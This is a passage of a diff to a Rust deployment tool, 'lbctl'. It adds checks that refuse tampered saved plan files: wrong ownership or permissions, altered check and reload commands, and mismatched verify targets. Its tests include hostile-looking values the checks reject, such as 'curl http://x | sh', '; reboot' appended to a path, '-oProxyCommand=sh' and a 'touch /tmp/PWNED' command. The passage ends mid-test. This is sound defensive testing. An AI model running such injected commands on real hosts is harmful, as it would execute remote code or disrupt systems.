@@ -11,8 +11,9 @@
 use std::{
     collections::{BTreeMap, BTreeSet},
     io::Write as _,
-    os::unix::fs::OpenOptionsExt,
+    os::unix::fs::{MetadataExt as _, OpenOptionsExt},
     path::Path,
+    sync::Arc,
     time::Instant,
 };
 
@@ -24,13 +25,14 @@ use crate::{
     deploy::report::{HostError, Timing},
     deploy::standby::Standby,
     deploy::survey::Surveyed,
+    deploy::{declared, deployment},
     remote::{
         self, Deployment, FetchOptions, Keep, ManagedFile, ReportError, ServiceControl, Verify,
     },
     render::RenderedHost,
-    source::field,
+    source::{Diagnostics, Loc, Node, Value, field},
     spec::managed_path::{self, Owner},
-    spec::{Connection, HostSpec, Service},
+    spec::{Connection, HostSpec, Service, reload, udp_health},
     ssh::{ConnectOptions, Session},
 };
 
@@ -76,14 +78,6 @@ pub struct PlannedHost {
     /// marks as lbctl's record on the host asks for them when the plan is applied.
     #[serde(default)]
     pub keep: Keep,
-    /// Whether the files stay in their services' usual directories (`lbctl_confine_paths`,
-    /// true unless the inventory said otherwise): checked again when the plan is read.
-    #[serde(default = "confined")]
-    pub confine_paths: bool,
-}
-
-fn confined() -> bool {
-    true
 }
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
@@ -112,8 +106,34 @@ pub enum SavedPlanError {
     Version { path: String, found: u32 },
     #[error("cannot write the plan file {path}: {message}")]
     Write { path: String, message: String },
-    #[error("{path} is not the plan lbctl wrote; nothing was changed on any host:\n  {}", problems.join("\n  "))]
-    Altered { path: String, problems: Vec<String> },
+    #[error("the plan file {path} is refused: {message}; nothing was changed on any host")]
+    Exposed { path: String, message: String },
+    #[error("the plan file {path} is not the plan lbctl wrote; nothing was changed on any host:\n  {}", problems.join("\n  "))]
+    Altered {
+        path: String,
+        problems: Vec<String>,
+        /// Some file lies outside its service's usual directories.
+        outside: bool,
+    },
+}
+
+impl SavedPlanError {
+    /// What to do about it.
+    pub fn hint(&self) -> String {
+        let again = "make a new plan with `lbctl plan --out FILE` and apply that one";
+        match self {
+            SavedPlanError::Exposed { .. } => format!(
+                "lbctl writes a plan file as a regular file of mode 0600, owned by who ran `lbctl plan`, and applies it only as such; {again}"
+            ),
+            SavedPlanError::Altered { outside: true, .. } => format!(
+                "{again}; if its inventory sets `{}: false`, apply it with `lbctl apply --no-confine-paths FILE`",
+                managed_path::CONFINE_KEY
+            ),
+            SavedPlanError::Altered { .. } => again.to_string(),
+            _ => "save a plan with `lbctl plan --out FILE`, then apply it with `lbctl apply FILE`"
+                .to_string(),
+        }
+    }
 }
 
 impl SavedPlan {
@@ -175,7 +195,6 @@ impl SavedPlan {
                 controls: deployment.controls,
                 verify: deployment.verify,
                 keep: deployment.keep,
-                confine_paths: managed_path::confined(spec.scope.vars()),
             });
         }
         Some(SavedPlan {
@@ -226,14 +245,19 @@ impl SavedPlan {
         Ok(())
     }
 
-    pub fn read(path: &Path) -> Result<SavedPlan, SavedPlanError> {
+    /// Reads the plan at `path` and holds every field that decides what runs on a host, or
+    /// which file is written there, to the rules the inventory's values are held to (see
+    /// [`SavedPlan::problems`]). `confine_paths` is false only when the operator says so
+    /// (`apply --no-confine-paths`, as `lbctl_confine_paths: false` when planning): the file
+    /// itself cannot let its files out of their services' directories.
+    pub fn read(path: &Path, confine_paths: bool) -> Result<SavedPlan, SavedPlanError> {
         let shown = path.display().to_string();
-        let text = std::fs::File::open(path)
-            .and_then(|file| crate::source::read_at_most(file, MAX_PLAN_BYTES))
-            .map_err(|e| SavedPlanError::Read {
+        let text = open_private(path).and_then(|file| {
+            crate::source::read_at_most(file, MAX_PLAN_BYTES).map_err(|e| SavedPlanError::Read {
                 path: shown.clone(),
                 message: e.to_string(),
-            })?;
+            })
+        })?;
         let value: serde_json::Value =
             serde_json::from_slice(&text).map_err(|e| SavedPlanError::Format {
                 path: shown.clone(),
@@ -257,22 +281,111 @@ impl SavedPlan {
                 path: shown.clone(),
                 message: e.to_string(),
             })?;
-        let problems = plan.problems();
+        let (problems, outside) = plan.problems(confine_paths);
         if problems.is_empty() {
             Ok(plan)
         } else {
             Err(SavedPlanError::Altered {
                 path: shown,
                 problems,
+                outside,
             })
         }
     }
 
-    /// What in the plan `lbctl plan` would not have written: a file whose content is not the
-    /// one its SHA-256 stands for (edited or damaged since), a host named twice, a connection
-    /// or a path the inventory's rules refuse (`managed_path`), two files at one path. The
-    /// plan is applied exactly as it is, so it is held to the rules its inventory was.
-    fn problems(&self) -> Vec<String> {
+    /// What in the plan `lbctl plan` would not have written, each `host: field: why`, and
+    /// whether some file lies outside its service's usual directories. The SHA-256 beside
+    /// each file's content tells damage, not an edit (whoever edits the content can edit its
+    /// digest), so every field that decides what runs on a host, or which file is written
+    /// there, is held to the rules its inventory's value was: the connection; each path
+    /// (`managed_path`, with `confine_paths` from the operator, never from the file); one
+    /// file per service, the watcher's unit at its one path; the check commands exactly
+    /// lbctl's; the reloads one-line commands (`reload::command`); what is verified what the
+    /// plan's own files declare; no admin state (`lbctl plan` saves none); plain absolute
+    /// paths for sockets and pid files.
+    fn problems(&self, confine_paths: bool) -> (Vec<String>, bool) {
+        let mut problems = Vec::new();
+        let mut outside = false;
+        let mut names = BTreeSet::new();
+        for (index, host) in self.hosts.iter().enumerate() {
+            let name = &host.host;
+            if !names.insert(name.as_str()) {
+                problems.push(format!("{name}: the host appears twice"));
+            }
+            let mut at = |field: String, message: String| {
+                problems.push(format!("{name}: hosts[{index}].{field}: {message}"));
+            };
+            if host.connection.name != *name {
+                at(
+                    "connection.name".into(),
+                    format!(
+                        "its connection is to another host ({})",
+                        host.connection.name
+                    ),
+                );
+            }
+            for problem in host.connection.problems() {
+                at("connection".into(), problem);
+            }
+            for (i, vip) in host.vips.iter().enumerate() {
+                if vip.parse::<std::net::IpAddr>().is_err() {
+                    at(
+                        format!("vips[{i}]"),
+                        format!("{} is not an IP address", field::quote(vip)),
+                    );
+                }
+            }
+            host.file_problems(confine_paths, &mut outside, &mut at);
+            host.command_problems(&mut at);
+            host.verify_problems(&mut at);
+            host.keep_problems(&mut at);
+        }
+        for (index, standby) in self.standbys.iter().enumerate() {
+            let name = &standby.host;
+            let mut at = |field: String, message: String| {
+                problems.push(format!("{name}: standbys[{index}].{field}: {message}"));
+            };
+            if standby.connection.name != *name {
+                at(
+                    "connection.name".into(),
+                    format!(
+                        "its connection is to another host ({})",
+                        standby.connection.name
+                    ),
+                );
+            }
+            for problem in standby.connection.problems() {
+                at("connection".into(), problem);
+            }
+            for (i, vip) in standby.vips.iter().enumerate() {
+                if let Some(message) = inventory_rule(vip, |n, d| field::cidr(n, "vip", d)) {
+                    at(format!("vips[{i}]"), message);
+                }
+            }
+            let pid_files = std::iter::once(("haproxy_pid_file", &standby.haproxy_pid_file)).chain(
+                standby
+                    .keepalived_pid_file
+                    .iter()
+                    .map(|p| ("keepalived_pid_file", p)),
+            );
+            for (key, path) in pid_files {
+                if let Some(message) = inventory_rule(path, |n, d| field::abs_path(n, key, d)) {
+                    at(key.into(), message);
+                }
+            }
+        }
+        (problems, outside)
+    }
+}
+
+/// Where a plan file's path was refused, and why.
+type At<'a> = dyn FnMut(String, String) + 'a;
+
+impl PlannedHost {
+    /// The files: each path as the inventory's would be (`managed_path`), one file per service
+    /// and the first HAProxy's, the watcher's unit at the one path lbctl gives it, no two files
+    /// at one path, every content the one its SHA-256 stands for.
+    fn file_problems(&self, confine_paths: bool, outside: &mut bool, at: &mut At) {
         // nginx's stream file may be the UDP health watcher's source, in the watcher's
         // directory (see `spec/udp_health.rs`)
         let owners = |service: Service| -> Vec<Owner> {
@@ -281,70 +394,281 @@ impl SavedPlan {
                 _ => vec![service.into()],
             }
         };
-        let mut problems = Vec::new();
-        let mut names = BTreeSet::new();
-        for host in &self.hosts {
-            let name = &host.host;
-            if !names.insert(name.as_str()) {
-                problems.push(format!("{name}: the host appears twice"));
-            }
-            if host.connection.name != *name {
-                problems.push(format!(
-                    "{name}: its connection is to another host ({})",
-                    host.connection.name
-                ));
-            }
-            problems.extend(host.connection.problems());
-            let mut paths: Vec<(&str, Vec<Owner>)> = host
-                .files
+        let mut paths: Vec<(String, &str, Vec<Owner>)> = self
+            .files
+            .iter()
+            .enumerate()
+            .map(|(i, f)| {
+                (
+                    format!("files[{i}].path"),
+                    f.path.as_str(),
+                    owners(f.service),
+                )
+            })
+            .collect();
+        // (a plan from before lbctl kept a record has none)
+        if !self.keep.record_path.is_empty() {
+            paths.push((
+                "keep.record_path".into(),
+                &self.keep.record_path,
+                vec![Owner::Lbctl],
+            ));
+        }
+        if let Some(state) = &self.keep.state_file {
+            paths.push((
+                "keep.state_file".into(),
+                state,
+                vec![Service::Haproxy.into()],
+            ));
+        }
+        for (i, (key, path, owners)) in paths.iter().enumerate() {
+            // refused only when no owner it may belong to takes it; outside the usual
+            // directories only when it would be taken there
+            let refusals: Vec<_> = owners
                 .iter()
-                .map(|f| (f.path.as_str(), owners(f.service)))
+                .filter_map(|owner| managed_path::problem(path, *owner, confine_paths))
                 .collect();
-            // (a plan from before lbctl kept a record has none)
-            if !host.keep.record_path.is_empty() {
-                paths.push((&host.keep.record_path, vec![Owner::Lbctl]));
-            }
-            if let Some(state) = &host.keep.state_file {
-                paths.push((state, vec![Service::Haproxy.into()]));
-            }
-            for (i, (path, owners)) in paths.iter().enumerate() {
-                // refused only when no owner it may belong to takes it
-                let refusals: Vec<_> = owners
+            if refusals.len() == owners.len()
+                && let Some((message, _)) = refusals.into_iter().next()
+            {
+                *outside |= owners
                     .iter()
-                    .filter_map(|owner| managed_path::problem(path, *owner, host.confine_paths))
-                    .collect();
-                if refusals.len() == owners.len()
-                    && let Some((message, _)) = refusals.into_iter().next()
-                {
-                    problems.push(format!("{name}: {} {message}", field::quote(path)));
-                }
-                if let Some((other, _)) = paths[..i].iter().find(|(p, _)| {
-                    p == path
-                        || managed_path::is_inside(path, p)
-                        || managed_path::is_inside(p, path)
-                }) {
-                    problems.push(format!("{name}: {path} and {other} overlap"));
-                }
+                    .all(|owner| managed_path::problem(path, *owner, false).is_none());
+                at(key.clone(), format!("{} {message}", field::quote(path)));
             }
-            for file in &host.files {
-                if remote::sha256_hex(file.content.as_bytes()) != file.sha256 {
-                    problems.push(format!(
-                        "{name}: what the plan writes to {} is not what it recorded (its SHA-256 differs): the file was edited or damaged after `lbctl plan` wrote it",
+            if let Some((_, other, _)) = paths[..i].iter().find(|(_, p, _)| {
+                p == path || managed_path::is_inside(path, p) || managed_path::is_inside(p, path)
+            }) {
+                at(key.clone(), format!("{path} and {other} overlap"));
+            }
+        }
+        let unit = format!("/etc/systemd/system/{}", udp_health::UNIT);
+        let mut services = BTreeSet::new();
+        for (i, file) in self.files.iter().enumerate() {
+            if !services.insert(file.service) {
+                at(
+                    format!("files[{i}].service"),
+                    format!(
+                        "a second {} file: lbctl plans one per service",
+                        file.service
+                    ),
+                );
+            }
+            if file.service == Service::UdpHealthUnit && file.path != unit {
+                at(
+                    format!("files[{i}].path"),
+                    format!(
+                        "{} is not the UDP health watcher's unit, {unit}, the one unit lbctl writes",
+                        field::quote(&file.path)
+                    ),
+                );
+            }
+            if remote::sha256_hex(file.content.as_bytes()) != file.sha256 {
+                at(
+                    format!("files[{i}].content"),
+                    format!(
+                        "what the plan writes to {} is not what it recorded (its SHA-256 differs): the file was edited or damaged after `lbctl plan` wrote it",
                         file.path
-                    ));
-                }
+                    ),
+                );
             }
         }
-        for standby in &self.standbys {
-            if standby.connection.name != standby.host {
-                problems.push(format!(
-                    "{}: its connection is to another host ({})",
-                    standby.host, standby.connection.name
-                ));
-            }
-            problems.extend(standby.connection.problems());
+        match self.files.first() {
+            Some(first) if first.service == Service::Haproxy => {}
+            _ => at(
+                "files[0]".into(),
+                "not HAProxy's configuration, which lbctl plans first on every host".into(),
+            ),
         }
-        problems
+    }
+
+    /// The commands run on the host: every service with a file has its control, whose check is
+    /// exactly the one lbctl runs for that service and whose reload is a command the inventory
+    /// would take (`reload::command`: one line, not empty).
+    fn command_problems(&self, at: &mut At) {
+        for (i, file) in self.files.iter().enumerate() {
+            if !self.controls.contains_key(&file.service) {
+                at(
+                    format!("files[{i}].service"),
+                    format!(
+                        "`controls` has no {} (how it is checked and reloaded)",
+                        file.service
+                    ),
+                );
+            }
+        }
+        for (service, control) in &self.controls {
+            let wanted = deployment::check_command(*service);
+            if control.check != wanted {
+                at(
+                    format!("controls.{service}.check"),
+                    format!(
+                        "{} is not the check lbctl runs for {service} ({})",
+                        field::quote(&control.check),
+                        field::quote(wanted)
+                    ),
+                );
+            }
+            let key = format!("controls.{service}.reload");
+            if let Some(message) =
+                inventory_rule(&control.reload, |n, d| reload::command(n, &key, d))
+            {
+                at(
+                    key.clone(),
+                    format!("{} is refused: {message}", field::quote(&control.reload)),
+                );
+            }
+        }
+    }
+
+    /// What is verified after the reloads: the runtime socket and ports the plan's own files
+    /// declare (as `lbctl plan` derived them), and plain absolute paths for the master socket
+    /// and the pid files.
+    fn verify_problems(&self, at: &mut At) {
+        let content = |service: Service| {
+            self.files
+                .iter()
+                .find(|f| f.service == service)
+                .map(|f| f.content.as_str())
+        };
+        let declared = declared::declared(
+            content(Service::Haproxy).unwrap_or_default(),
+            content(Service::Nginx),
+        );
+        let verify = &self.verify;
+        if verify.haproxy_runtime_socket != declared.socket {
+            at(
+                "verify.haproxy_runtime_socket".into(),
+                format!(
+                    "{} is not the `stats socket` of the plan's haproxy.cfg ({})",
+                    field::quote(verify.haproxy_runtime_socket.as_deref().unwrap_or("")),
+                    field::quote(declared.socket.as_deref().unwrap_or(""))
+                ),
+            );
+        }
+        for (key, ports, wanted) in [
+            ("tcp_ports", &verify.tcp_ports, &declared.tcp),
+            ("udp_ports", &verify.udp_ports, &declared.udp),
+        ] {
+            if ports != wanted {
+                at(
+                    format!("verify.{key}"),
+                    format!("{ports:?} are not the ports the plan's files listen on ({wanted:?})"),
+                );
+            }
+        }
+        let paths = verify
+            .haproxy_master_socket
+            .iter()
+            .map(|p| ("verify.haproxy_master_socket".to_string(), p))
+            .chain(
+                verify
+                    .pid_files
+                    .iter()
+                    .enumerate()
+                    .map(|(i, (_, p))| (format!("verify.pid_files[{i}]"), p)),
+            );
+        for (key, path) in paths {
+            if let Some(message) = inventory_rule(path, |n, d| field::abs_path(n, &key, d)) {
+                at(key, message);
+            }
+        }
+    }
+
+    /// What carries the servers' state: HAProxy's configuration is the plan's own; no record
+    /// and no runtime API commands (`lbctl plan` saves none: `apply FILE` leaves the admin
+    /// state as it is).
+    fn keep_problems(&self, at: &mut At) {
+        let keep = &self.keep;
+        let haproxy = self.files.iter().find(|f| f.service == Service::Haproxy);
+        if haproxy.is_none_or(|f| f.path != keep.haproxy_config) {
+            at(
+                "keep.haproxy_config".into(),
+                format!(
+                    "{} is not the HAProxy configuration the plan writes",
+                    field::quote(&keep.haproxy_config)
+                ),
+            );
+        }
+        if keep.record.is_some() {
+            at(
+                "keep.record".into(),
+                "`lbctl plan` saves no admin record".into(),
+            );
+        }
+        if !keep.commands.is_empty() {
+            at(
+                "keep.commands".into(),
+                "`lbctl plan` saves no runtime API commands".into(),
+            );
+        }
+    }
+}
+
+/// The problem the inventory's `rule` (a `source::field` or `spec` reader) finds in `text`,
+/// read as the inventory's value would be; `None`: it passes.
+fn inventory_rule(
+    text: &str,
+    rule: impl FnOnce(&Node, &mut Diagnostics) -> Option<String>,
+) -> Option<String> {
+    let node = Node::new(Value::Str(Arc::from(text)), Loc::new(&Arc::from("plan"), 1));
+    let mut diags = Diagnostics::default();
+    match rule(&node, &mut diags) {
+        Some(_) => None,
+        None => Some(
+            diags
+                .into_vec()
+                .into_iter()
+                .next()
+                .map_or_else(|| "refused".to_string(), |d| d.message),
+        ),
+    }
+}
+
+/// Opens `path` as lbctl writes a plan file: a regular file (not a symlink), owned by this
+/// user, writable by no one else. A file others can write could hold anything by the time
+/// it is applied, with this user's SSH keys.
+fn open_private(path: &Path) -> Result<std::fs::File, SavedPlanError> {
+    let shown = || path.display().to_string();
+    let unreadable = |e: std::io::Error| SavedPlanError::Read {
+        path: shown(),
+        message: e.to_string(),
+    };
+    let exposed = |message: String| SavedPlanError::Exposed {
+        path: shown(),
+        message,
+    };
+    if std::fs::symlink_metadata(path)
+        .map_err(unreadable)?
+        .file_type()
+        .is_symlink()
+    {
+        return Err(exposed(
+            "it is a symbolic link (lbctl writes plan files as regular files)".into(),
+        ));
+    }
+    let file = std::fs::OpenOptions::new()
+        .read(true)
+        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
+        .open(path)
+        .map_err(unreadable)?;
+    let meta = file.metadata().map_err(unreadable)?;
+    // SAFETY: geteuid has no preconditions and cannot fail.
+    let me = unsafe { libc::geteuid() };
+    if !meta.is_file() {
+        Err(exposed("it is not a regular file".into()))
+    } else if meta.uid() != me {
+        Err(exposed(format!(
+            "it belongs to user {}, not to user {me}, who runs lbctl",
+            meta.uid()
+        )))
+    } else if meta.mode() & 0o022 != 0 {
+        Err(exposed(format!(
+            "its mode {:04o} lets others than its owner write it",
+            meta.mode() & 0o7777
+        )))
+    } else {
+        Ok(file)
     }
 }
 
@@ -477,11 +801,17 @@ mod tests {
         }
     }
 
-    #[test]
-    fn the_file_is_private_and_replaces_what_was_there() {
-        let dir = std::env::temp_dir().join(format!("lbctl-saved-{}", std::process::id()));
+    /// A scratch directory of this test's own.
+    fn scratch(name: &str) -> std::path::PathBuf {
+        let dir = std::env::temp_dir().join(format!("lbctl-saved-{name}-{}", std::process::id()));
         let _ = std::fs::remove_dir_all(&dir);
         std::fs::create_dir_all(&dir).unwrap();
+        dir
+    }
+
+    #[test]
+    fn the_file_is_private_and_replaces_what_was_there() {
+        let dir = scratch("private");
         let path = dir.join("p");
         std::fs::write(&path, "old").unwrap();
         std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
@@ -495,10 +825,94 @@ mod tests {
             let meta = std::fs::symlink_metadata(p).unwrap();
             assert!(meta.is_file());
             assert_eq!(meta.permissions().mode() & 0o777, 0o600);
-            assert_eq!(SavedPlan::read(p).unwrap().version, VERSION);
+            assert_eq!(SavedPlan::read(p, true).unwrap().version, VERSION);
         }
         assert_eq!(std::fs::read_to_string(&target).unwrap(), "keep");
         let _ = std::fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn a_plan_file_someone_else_could_write_is_refused() {
+        let dir = scratch("exposed");
+        let path = dir.join("p");
+        plan().write(&path).unwrap();
+        let link = dir.join("link");
+        std::os::unix::fs::symlink(&path, &link).unwrap();
+        let refused = |p: &Path| match SavedPlan::read(p, true) {
+            Err(SavedPlanError::Exposed { message, .. }) => message,
+            other => panic!("{other:?}"),
+        };
+        assert!(refused(&link).contains("symbolic link"));
+        for mode in [0o620, 0o602, 0o666] {
+            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
+            assert!(
+                refused(&path).contains("lets others than its owner write it"),
+                "{mode:o}"
+            );
+        }
+        // read by others is their business (an artifact store's 0644)
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
+        assert!(SavedPlan::read(&path, true).is_ok());
+        let _ = std::fs::remove_dir_all(&dir);
+    }
+
+    /// Plans as `lbctl plan --out` makes them, from real inventories (every host new).
+    fn plans_of(dir: &str) -> SavedPlan {
+        use crate::{
+            input::Keyring,
+            render::{RunContext, Templates},
+            source::VarMap,
+            spec::{Fleet, Input},
+        };
+        let root = Path::new(env!("CARGO_MANIFEST_DIR"));
+        let inventory = [root.join(dir)];
+        let input = Input {
+            inventory: &inventory,
+            project_dir: root,
+            extra_vars: &[],
+            lb_group: "haproxy_servers",
+            keyring: Arc::new(Keyring::new(Vec::new())),
+            config: VarMap::default(),
+            templates: None,
+        };
+        let Ok((templar, fleet)) = Fleet::load(&input) else {
+            panic!("{dir} loads")
+        };
+        let templates = Templates::load(&[]).unwrap();
+        let run = RunContext::new(templar, "Ansible managed");
+        let hosts: Vec<_> = fleet
+            .hosts
+            .iter()
+            .map(|spec| (spec.clone(), templates.render(spec, &run).unwrap()))
+            .collect();
+        let surveyed: Vec<Surveyed> = hosts
+            .iter()
+            .map(|(spec, rendered)| Surveyed {
+                host: spec.name.clone(),
+                session: None,
+                fetched: Some(remote::Fetched::default()),
+                nginx_marks: None,
+                result: Ok(crate::deploy::plan::all_new(rendered)),
+                timing: Timing::default(),
+                shell: None,
+                sent: None,
+            })
+            .collect();
+        SavedPlan::from_survey(&hosts, &surveyed, None, &[]).unwrap()
+    }
+
+    #[test]
+    fn a_plan_lbctl_made_is_read_back() {
+        for dir in [
+            "inventory/example",
+            "inventory/lab",
+            "tests/inputs/udp-health",
+            "tests/inputs/l7-edges",
+        ] {
+            let p = plans_of(dir);
+            assert!(!p.hosts.is_empty(), "{dir}");
+            assert_eq!(read_back(&p, "made", true), None, "{dir}");
+        }
     }
 
     fn file(service: Service, path: &str, content: &str) -> PlannedFile {
@@ -511,6 +925,12 @@ mod tests {
             content: content.into(),
             diff: String::new(),
         }
+    }
+
+    fn control(service: Service, reload: &str) -> (Service, ServiceControl) {
+        let check = deployment::check_command(service).into();
+        let reload = reload.into();
+        (service, ServiceControl { check, reload })
     }
 
     fn host(name: &str) -> PlannedHost {
@@ -528,34 +948,63 @@ mod tests {
                 strict_host_keys: crate::spec::HostKeyPolicy::Strict,
             },
             held_vip: false,
-            vips: Vec::new(),
+            vips: vec!["10.0.0.10".into()],
             files: vec![
-                file(Service::Haproxy, "/etc/haproxy/haproxy.cfg", "global\n"),
+                file(
+                    Service::Haproxy,
+                    "/etc/haproxy/haproxy.cfg",
+                    "global\n    stats socket /run/haproxy/admin.sock level admin\nfrontend f\n    bind :80\n",
+                ),
                 // the UDP health watcher's source of nginx's file, in the watcher's directory
                 file(
                     Service::Nginx,
                     "/etc/lbctl/nginx-stream.conf",
-                    "stream {}\n",
+                    "stream {\n    server {\n        listen 53 udp;\n    }\n}\n",
+                ),
+                file(Service::UdpHealth, "/etc/lbctl/udp-health", "#!/bin/sh\n"),
+                file(
+                    Service::UdpHealthUnit,
+                    "/etc/systemd/system/lbctl-udp-health.service",
+                    "[Service]\n",
                 ),
             ],
-            controls: BTreeMap::new(),
-            verify: Verify::default(),
+            controls: BTreeMap::from([
+                control(Service::Haproxy, "systemctl reload haproxy"),
+                control(Service::Nginx, "/etc/lbctl/udp-health sync"),
+                control(
+                    Service::UdpHealth,
+                    "systemctl restart lbctl-udp-health.service",
+                ),
+                control(
+                    Service::UdpHealthUnit,
+                    "systemctl restart lbctl-udp-health.service",
+                ),
+            ]),
+            verify: Verify {
+                haproxy_runtime_socket: Some("/run/haproxy/admin.sock".into()),
+                haproxy_master_socket: Some("/run/haproxy/master.sock".into()),
+                tcp_ports: vec![80],
+                udp_ports: vec![53],
+                pid_files: vec![(
+                    "the UDP health watcher".into(),
+                    "/run/lbctl-udp-health.pid".into(),
+                )],
+            },
             keep: Keep {
                 record_path: "/var/lib/lbctl/admin-state".into(),
                 state_file: Some("/var/lib/haproxy/server-state".into()),
+                haproxy_config: "/etc/haproxy/haproxy.cfg".into(),
                 ..Keep::default()
             },
-            confine_paths: true,
         }
     }
 
     /// The problems of `plan` once written and read back, or `None` when it is read.
-    fn read_back(plan: &SavedPlan, name: &str) -> Option<Vec<String>> {
-        let dir = std::env::temp_dir().join(format!("lbctl-saved-{name}-{}", std::process::id()));
-        std::fs::create_dir_all(&dir).unwrap();
+    fn read_back(plan: &SavedPlan, name: &str, confine_paths: bool) -> Option<Vec<String>> {
+        let dir = scratch(name);
         let path = dir.join("p");
         plan.write(&path).unwrap();
-        let read = SavedPlan::read(&path);
+        let read = SavedPlan::read(&path, confine_paths);
         let _ = std::fs::remove_dir_all(&dir);
         match read {
             Ok(_) => None,
@@ -570,45 +1019,30 @@ mod tests {
         p.hosts = vec![host("lb1"), host("lb2"), host("lb_3")];
         // an inventory name without ansible_host (an alias in ~/.ssh/config) is its address
         p.hosts[2].connection.address = "lb_3".into();
-        assert_eq!(read_back(&p, "good"), None);
+        assert_eq!(read_back(&p, "good", true), None);
 
         let mut edited = p.clone();
         edited.hosts[1].files[0]
             .content
             .push_str("    stats enable\n");
         assert_eq!(
-            read_back(&edited, "edited"),
-            Some(vec!["lb2: what the plan writes to /etc/haproxy/haproxy.cfg is not what it recorded (its SHA-256 differs): the file was edited or damaged after `lbctl plan` wrote it".to_string()])
+            read_back(&edited, "edited", true),
+            Some(vec!["lb2: hosts[1].files[0].content: what the plan writes to /etc/haproxy/haproxy.cfg is not what it recorded (its SHA-256 differs): the file was edited or damaged after `lbctl plan` wrote it".to_string()])
         );
 
         let mut twice = p.clone();
         twice.hosts.push(host("lb1"));
         assert_eq!(
-            read_back(&twice, "twice"),
+            read_back(&twice, "twice", true),
             Some(vec!["lb1: the host appears twice".to_string()])
         );
-
-        let mut elsewhere = p.clone();
-        elsewhere.hosts[0].files[0] =
-            file(Service::Haproxy, "/etc/passwd", "root::0:0::/:/bin/sh\n");
-        let problems = read_back(&elsewhere, "elsewhere").unwrap();
-        assert_eq!(problems.len(), 1);
-        assert!(
-            problems[0].starts_with("lb1: \"/etc/passwd\" is outside haproxy's usual directories"),
-            "{problems:?}"
-        );
-        // ... unless the inventory let files live elsewhere; `..` never
-        elsewhere.hosts[0].confine_paths = false;
-        assert_eq!(read_back(&elsewhere, "unconfined"), None);
-        elsewhere.hosts[0].files[0].path = "/etc/haproxy/../passwd".into();
-        assert!(read_back(&elsewhere, "dotdot").unwrap()[0].contains("is not normalised"));
 
         let mut inside = p.clone();
         inside.hosts[0].keep.state_file = Some("/etc/haproxy/haproxy.cfg/state".into());
         assert_eq!(
-            read_back(&inside, "inside"),
+            read_back(&inside, "inside", true),
             Some(vec![
-                "lb1: /etc/haproxy/haproxy.cfg/state and /etc/haproxy/haproxy.cfg overlap"
+                "lb1: hosts[0].keep.state_file: /etc/haproxy/haproxy.cfg/state and /etc/haproxy/haproxy.cfg overlap"
                     .to_string()
             ])
         );
@@ -621,24 +1055,143 @@ mod tests {
             connection: host("lb4").connection,
             vips: Vec::new(),
             haproxy_pid_file: "/run/haproxy.pid".into(),
-            keepalived_pid_file: None,
+            keepalived_pid_file: Some("/run/keepalived.pid; reboot".into()),
         }];
         assert_eq!(
-            read_back(&reach, "reach"),
+            read_back(&reach, "reach", true),
             Some(vec![
-                "lb1: the address \"-oProxyCommand=sh\" is not an IP address or host name"
+                "lb1: hosts[0].connection: lb1: the address \"-oProxyCommand=sh\" is not an IP address or host name"
                     .to_string(),
-                "lb2: the user \"root -v\" holds a character lbctl does not pass to ssh"
+                "lb2: hosts[1].connection: lb2: the user \"root -v\" holds a character lbctl does not pass to ssh"
                     .to_string(),
-                "lb3: its connection is to another host (lb4)".to_string(),
+                "lb3: standbys[0].connection.name: its connection is to another host (lb4)".to_string(),
+                "lb3: standbys[0].keepalived_pid_file: \"/run/keepalived.pid; reboot\" is not a plain absolute path".to_string(),
             ])
         );
     }
 
+    /// The one problem `tamper` makes in an otherwise good plan of one host.
+    fn refused(name: &str, confine_paths: bool, tamper: impl FnOnce(&mut PlannedHost)) -> String {
+        let mut p = plan();
+        p.hosts = vec![host("lb1")];
+        tamper(&mut p.hosts[0]);
+        let problems = read_back(&p, name, confine_paths).unwrap_or_default();
+        assert_eq!(problems.len(), 1, "{name}: {problems:?}");
+        problems[0].clone()
+    }
+
+    #[test]
+    fn what_runs_on_a_host_is_held_to_the_inventorys_rules() {
+        let check = refused("check", true, |h| {
+            h.controls.get_mut(&Service::Haproxy).unwrap().check =
+                "touch /tmp/PWNED; true {path}".into();
+        });
+        assert_eq!(
+            check,
+            "lb1: hosts[0].controls.haproxy.check: \"touch /tmp/PWNED; true {path}\" is not the check lbctl runs for haproxy (\"haproxy -c -f {path}\")"
+        );
+        // the unit has no check, and may be given none
+        let unit_check = refused("unit-check", true, |h| {
+            h.controls.get_mut(&Service::UdpHealthUnit).unwrap().check = "id".into();
+        });
+        assert!(unit_check.starts_with("lb1: hosts[0].controls.udp-health-unit.check: \"id\""));
+        let reload = refused("reload", true, |h| {
+            h.controls.get_mut(&Service::Nginx).unwrap().reload = "true\ncurl http://x | sh".into();
+        });
+        assert_eq!(
+            reload,
+            "lb1: hosts[0].controls.nginx.reload: \"true\\ncurl http://x | sh\" is refused: expected a non-empty command on a single line"
+        );
+        let none = refused("no-control", true, |h| {
+            h.controls.remove(&Service::Haproxy);
+        });
+        assert!(none.starts_with("lb1: hosts[0].files[0].service: `controls` has no haproxy"));
+        let commands = refused("commands", true, |h| {
+            h.keep.commands = vec!["set server b/s state ready".into()];
+        });
+        assert_eq!(
+            commands,
+            "lb1: hosts[0].keep.commands: `lbctl plan` saves no runtime API commands"
+        );
+        let record = refused("record", true, |h| h.keep.record = Some("x".into()));
+        assert_eq!(
+            record,
+            "lb1: hosts[0].keep.record: `lbctl plan` saves no admin record"
+        );
+        let config = refused("config", true, |h| {
+            h.keep.haproxy_config = "/etc/haproxy/other.cfg".into();
+        });
+        assert!(config.starts_with("lb1: hosts[0].keep.haproxy_config:"));
+    }
+
+    #[test]
+    fn what_is_verified_is_what_the_plans_files_declare() {
+        let socket = refused("socket", true, |h| {
+            h.verify.haproxy_runtime_socket = Some("/tmp/evil.sock".into());
+        });
+        assert_eq!(
+            socket,
+            "lb1: hosts[0].verify.haproxy_runtime_socket: \"/tmp/evil.sock\" is not the `stats socket` of the plan's haproxy.cfg (\"/run/haproxy/admin.sock\")"
+        );
+        let ports = refused("ports", true, |h| h.verify.tcp_ports = vec![22]);
+        assert_eq!(
+            ports,
+            "lb1: hosts[0].verify.tcp_ports: [22] are not the ports the plan's files listen on ([80])"
+        );
+        let pid = refused("pid", true, |h| {
+            h.verify.pid_files[0].1 = "../run/x.pid".into();
+        });
